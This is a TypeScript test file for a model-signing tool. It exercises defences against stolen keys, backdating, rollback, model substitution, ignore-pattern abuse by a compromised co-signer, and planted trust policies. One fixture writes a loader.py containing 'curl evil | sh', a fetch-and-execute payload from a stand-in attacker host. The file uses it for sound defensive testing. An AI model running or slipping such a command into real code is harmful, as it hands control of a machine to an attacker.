/**
 * The attackers of docs/threat-model.md, end to end, each as an operator meets them: a policy
 * made with the trust commands, a model signed and served, `verify` run as a loader would run it.
 * The policy rules themselves are tested in depth by the trust-policy tests; here each test is
 * one attack and what stops it, including where a defence needs the operator's help.
 */
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { createSignatureFile, decodeEnvelope, decodeManifest, generateSecretKey, secretKeySigner } from '@ms-sign/core';
import { signModel } from '@ms-sign/core/node';
import { readBoundedFile } from '@ms-sign/core/internal';
import { writeKeyFiles, type KeyFiles } from '../helpers/crafted.js';
import { assertCodes } from '../helpers/hostile.js';
import { errorCodes, runCli, tempDir, type CliResult } from '../helpers/index.js';

async function must(argv: string[], cwd: string): Promise<CliResult> {
  const r = await runCli(argv, { cwd });
  assert.equal(r.code, 0, `ms-sign ${argv.join(' ')}: ${r.stderr}${r.stdout}`);
  return r;
}

/** Two publishers, acme (key a) and beta (key b), in trust.json; a model file model.ms. */
async function world(t: Parameters<typeof tempDir>[0], acmeOptions: string[] = []) {
  const dir = tempDir(t);
  const a = await writeKeyFiles(dir, generateSecretKey(), 'acme');
  const b = await writeKeyFiles(dir, generateSecretKey(), 'beta');
  await must(['trust', 'init', '-t', 'trust.json'], dir);
  await must(['trust', 'add', 'acme', '-p', a.publicPath, '-t', 'trust.json', ...acmeOptions], dir);
  await must(['trust', 'add', 'beta', '-p', b.publicPath, '-t', 'trust.json'], dir);
  writeFileSync(join(dir, 'model.ms'), 'model weights v1');
  const verify = (...extra: string[]) => runCli(['verify', 'model.ms', '-t', 'trust.json', '--json', ...extra], { cwd: dir });
  const sign = (key: KeyFiles, ...extra: string[]) => must(['sign', 'model.ms', '-k', key.secretPath, ...extra], dir);
  return { dir, a, b, verify, sign };
}

describe('a stolen or revoked key', () => {
  test('once revoked, a stolen key signs nothing that verifies: REVOKED_KEY, even beside a trusted co-signer', async (t) => {
    const w = await world(t);
    await w.sign(w.a);
    await w.sign(w.b, '--append');
    assertCodes(await w.verify(), 0, []);
    await must(['trust', 'revoke', w.a.keyId, '-t', 'trust.json', '--reason', 'stolen'], w.dir);
    const r = await w.verify();
    assert.equal(r.code, 1);
    assert.ok(errorCodes(r).includes('REVOKED_KEY'), errorCodes(r).join());
  });

  test('one stolen key does not meet a threshold of two publishers, however often it signs', async (t) => {
    const w = await world(t);
    await must(['trust', 'rule', '**', '--threshold', '2', '-t', 'trust.json'], w.dir);
    await w.sign(w.a);
    assertCodes(await w.verify(), 1, ['THRESHOLD_NOT_MET']);
    // The thief signs the same manifest twice with the same key: still one publisher.
    const sigPath = join(w.dir, 'model.ms.sig');
    const manifest = decodeManifest(decodeEnvelope(readBoundedFile(sigPath, 1 << 20, 'MALFORMED_SIGNATURE_FILE', 'sig')!).payload);
    writeFileSync(sigPath, await createSignatureFile(manifest, [secretKeySigner(w.a.key), secretKeySigner(w.a.key)]));
    assertCodes(await w.verify(), 1, ['THRESHOLD_NOT_MET']);
  });

  test("a stolen key of a publisher scoped to other models cannot vouch for this one: OUT_OF_SCOPE", async (t) => {
    const w = await world(t, ['--models', 'acme/**']);
    await w.sign(w.a, '--name', 'victim/model');
    assertCodes(await w.verify(), 1, ['OUT_OF_SCOPE']);
  });

  test('a rotated-out key (validity window ended): new signatures are KEY_NOT_VALID; backdated ones need a max-age rule (TOO_OLD)', async (t) => {
    const w = await world(t, ['--not-after', '2024-01-01']);
    await w.sign(w.a);
    assertCodes(await w.verify(), 1, ['KEY_NOT_VALID']);
    // The creation time is the signer's claim: a thief backdates it into the key's window.
    const { signatureFile } = await signModel(join(w.dir, 'model.ms'), { signers: [secretKeySigner(w.a.key)], signaturePath: join(w.dir, 'model.ms.sig'), now: Date.parse('2023-06-01') / 1000 });
    writeFileSync(join(w.dir, 'model.ms.sig'), signatureFile);
    assertCodes(await w.verify(), 0, [], 'the window alone does not stop a backdated signature');
    await must(['trust', 'rule', '**', '--max-age', '180d', '-t', 'trust.json'], w.dir);
    assertCodes(await w.verify(), 1, ['TOO_OLD']);
  });
});

describe('a replayed older release', () => {
  test('refused with ROLLBACK when verify keeps a state file; accepted without one', async (t) => {
    const w = await world(t);
    await w.sign(w.a, '--model-version', '1.0.0', '-o', 'v1.sig');
    const oldBytes = 'model weights v1';
    writeFileSync(join(w.dir, 'model.ms'), 'model weights v2');
    await w.sign(w.a, '--model-version', '2.0.0', '-o', 'v2.sig');
    assertCodes(await w.verify('-s', 'v2.sig', '--state', 'state.json'), 0, []);
    // The mirror serves the old, vulnerable release with its valid signature.
    writeFileSync(join(w.dir, 'model.ms'), oldBytes);
    assertCodes(await w.verify('-s', 'v1.sig', '--state', 'state.json'), 1, ['ROLLBACK']);
    assertCodes(await w.verify('-s', 'v1.sig'), 0, [], 'without --state there is no memory of what was seen');
  });
});

describe('a substituted model', () => {
  test("another model validly signed by the same publisher, under this one's file name: NAME_MISMATCH with --name", async (t) => {
    const w = await world(t);
    writeFileSync(join(w.dir, 'model.ms'), 'a different, older, vulnerable model');
    await w.sign(w.a, '--name', 'acme/face-detector');
    // A single-file model is identified by its content, not its file name: it verifies...
    assertCodes(await w.verify(), 0, []);
    // ...unless the loader says which model it expects.
    assertCodes(await w.verify('--name', 'acme/classifier'), 1, ['NAME_MISMATCH']);
  });
});

describe('a compromised co-signer', () => {
  test('cannot get a file past a threshold-2 rule with ignore patterns the other publisher never saw', async (t) => {
    const w = await world(t);
    await must(['trust', 'rule', '**', '--threshold', '2', '-t', 'trust.json'], w.dir);
    mkdirSync(join(w.dir, 'bundle'));
    writeFileSync(join(w.dir, 'bundle', 'weights.bin'), 'weights');
    writeFileSync(join(w.dir, 'bundle', 'loader.py'), 'import os; os.system("curl evil | sh")');
    // acme's key is stolen: the thief leaves its payload out of the manifest with an ignore pattern.
    await must(['sign', 'bundle', '-k', w.a.secretPath, '--ignore', 'loader.py'], w.dir);
    // beta co-signs as it always does: refused, and told what it would vouch for.
    const cosign = await runCli(['sign', 'bundle', '-k', w.b.secretPath, '--append', '--json'], { cwd: w.dir });
    assertCodes(cosign, 2, ['IGNORE_MISMATCH']);
    assert.match(cosign.json<{ errors: { message: string }[] }>().errors[0]!.message, /1 file .*loader\.py/);
    const verify = () => runCli(['verify', 'bundle', '-t', 'trust.json', '--json'], { cwd: w.dir });
    assertCodes(await verify(), 1, ['THRESHOLD_NOT_MET']);
    // Another list is refused too; the same list, or --accept-ignores, is a choice made knowingly.
    assertCodes(await runCli(['sign', 'bundle', '-k', w.b.secretPath, '--append', '--ignore', '*.tmp', '--json'], { cwd: w.dir }), 2, ['IGNORE_MISMATCH']);
    const knowingly = await must(['sign', 'bundle', '-k', w.b.secretPath, '--append', '--ignore', 'loader.py'], w.dir);
    // Patterns are recorded in their anchored form (.gitignore's "loader.py" is "**/loader.py"), .git/ by default.
    assert.match(knowingly.stdout, /Ignored \(not covered\): \*\*\/loader\.py, \*\*\/\.git\/\*\*/);
    // verify says which patterns it applied, in text and in --json.
    const report = await verify();
    assertCodes(report, 0, []);
    assert.deepEqual(report.json<{ ignore: string[] }>().ignore, ['**/loader.py', '**/.git/**']);
    const text = await runCli(['verify', 'bundle', '-t', 'trust.json'], { cwd: w.dir });
    assert.match(text.stdout, /ignored: +\*\*\/loader\.py, \*\*\/\.git\/\*\* \(not covered\)/);
  });

  test('--accept-ignores co-signs the recorded patterns as they are; a manifest without patterns needs neither flag', async (t) => {
    const w = await world(t);
    mkdirSync(join(w.dir, 'bundle'));
    writeFileSync(join(w.dir, 'bundle', 'weights.bin'), 'weights');
    writeFileSync(join(w.dir, 'bundle', 'notes.tmp'), 'scratch');
    await must(['sign', 'bundle', '-k', w.a.secretPath, '--ignore', '*.tmp', '-o', 'a.sig'], w.dir);
    await must(['sign', 'bundle', '-k', w.b.secretPath, '--append', '--accept-ignores', '-o', 'a.sig'], w.dir);
    // The signature file inside the model is left out by a pattern sign records itself: no flag needed.
    await must(['sign', 'bundle', '-k', w.a.secretPath, '-o', 'bundle/bundle.sig', '--ignore', '*.tmp'], w.dir);
    await must(['sign', 'bundle', '-k', w.b.secretPath, '--append', '-o', 'bundle/bundle.sig', '--ignore', '*.tmp'], w.dir);
    rmSync(join(w.dir, 'bundle', 'notes.tmp'));
    await must(['sign', 'bundle', '-k', w.a.secretPath, '-o', 'plain.sig'], w.dir);
    await must(['sign', 'bundle', '-k', w.b.secretPath, '--append', '-o', 'plain.sig'], w.dir);
  });
});

describe('a planted trust policy', () => {
  test('a ./.ms-sign/trust.json planted in the working directory, the model\'s, is never used: the user\'s policy applies', async (t) => {
    const w = await world(t);
    // The operator's own policy, where verify looks for it without -t.
    const userPolicy = join(w.dir, '.config-home', 'ms-sign', 'trust.json');
    mkdirSync(join(userPolicy, '..'), { recursive: true });
    writeFileSync(userPolicy, readFileSync(join(w.dir, 'trust.json')));
    // The attacker signs the bundle with its own key and ships a policy trusting that key, in
    // the directory the operator runs verify from, which is also the model's.
    const evil = await writeKeyFiles(w.dir, generateSecretKey(), 'evil');
    await w.sign(evil);
    const planted = join(w.dir, '.ms-sign', 'trust.json');
    mkdirSync(join(planted, '..'));
    await must(['trust', 'init', '-t', planted], w.dir);
    await must(['trust', 'add', 'attacker', '-p', evil.publicPath, '-t', planted], w.dir);
    assertCodes(await runCli(['verify', 'model.ms', '-t', planted, '--json'], { cwd: w.dir }), 0, [], 'the planted policy does trust the attacker');
    const r = await runCli(['verify', 'model.ms', '--json'], { cwd: w.dir });
    assertCodes(r, 1, ['UNTRUSTED_SIGNER']);
    assert.deepEqual(r.json<{ policy: { source: string; origin: string } }>().policy, { source: userPolicy, origin: '$XDG_CONFIG_HOME/ms-sign/trust.json', rule: null });
    // Without a policy of the operator's, the planted one is still not found: nothing to trust.
    rmSync(userPolicy);
    assertCodes(await runCli(['verify', 'model.ms', '--json'], { cwd: w.dir }), 2, ['NO_TRUST_ANCHOR']);
  });
});
